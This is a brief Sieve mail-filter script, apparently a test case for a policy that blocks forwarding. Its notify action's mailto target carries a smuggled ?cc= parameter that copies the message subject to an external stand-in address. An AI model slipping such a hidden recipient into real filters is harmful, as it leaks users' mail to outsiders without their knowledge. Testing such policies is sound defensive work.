require ["enotify", "variables"];
# An internal notification is allowed; the ?cc= to an external address is
# forwarding (policy.md) and the default policy blocks it with a bounce.
if header :matches "subject" "*" {
    set "s" "${1}";
}
notify :importance "1" :message "Mail from family: ${s}"
       "mailto:bob@example.com?cc=evil@gmail.example&subject=ignored";
